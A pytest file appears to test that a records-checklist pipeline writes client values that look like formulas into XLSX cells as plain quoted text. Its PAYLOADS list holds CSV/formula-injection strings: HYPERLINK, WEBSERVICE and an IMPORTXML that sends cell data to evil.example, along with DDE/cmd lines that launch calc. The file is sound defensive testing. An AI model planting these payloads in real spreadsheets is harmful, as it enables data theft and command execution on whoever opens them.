"""Spreadsheet cells are text: a client's value that looks like a formula is stored as text in every sheet."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from pipeline.intake.load import load_intake
from pipeline.readiness.checklist import write_checklist_xlsx
from pipeline.readiness.gaps import assess_readiness
from pipeline.readiness.sheet_text import cells_as_text

PAYLOADS = [
    '=HYPERLINK("http://evil.example","Open the records")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "=cmd|' /C calc'!A0",
    "=2+3",
    "+2+3",
    "-2+3",
    "@SUM(1,2)",
    "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "-1+1|cmd",
    "=1+1;=2",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_written_as_text(make_intake: Callable[..., Path], tmp_path: Path, payload: str) -> None:
    intake = load_intake(make_intake({
        "people": {"records_keeper": {"name": payload, "title": "Office"}},
        "practices": {"inspections": {"done": True, "frequency": "weekly",
                                      "records": {"kept": True, "count": 10, "location": payload}}},
    }))
    path = write_checklist_xlsx(assess_readiness(intake, today=date(2025, 6, 1)), tmp_path / "checklist.xlsx")
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in package.read(name) and b"<f " not in package.read(name), name
    sheet = openpyxl.load_workbook(path)["Records checklist"]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and payload in c.value]
    assert any(c.value.startswith(payload) for c in cells)  # the keeper column begins with the payload
    for cell in cells:
        assert cell.data_type == "s"
        if cell.value.startswith(payload):
            assert cell.quotePrefix


def test_every_sheet_is_covered() -> None:
    workbook = openpyxl.Workbook()
    first = workbook.active
    first["A1"] = "=1+1"
    first["C1"] = 42
    other = workbook.create_sheet("Other")
    other["A1"] = "@evil"
    other["A2"] = "plain text"
    assert cells_as_text(workbook) == 2
    assert first["A1"].data_type == "s" and first["A1"].value == "=1+1"
    assert first["C1"].value == 42 and first["C1"].data_type == "n"
    assert other["A1"].data_type == "s" and other["A1"].quotePrefix
    assert not other["A2"].quotePrefix
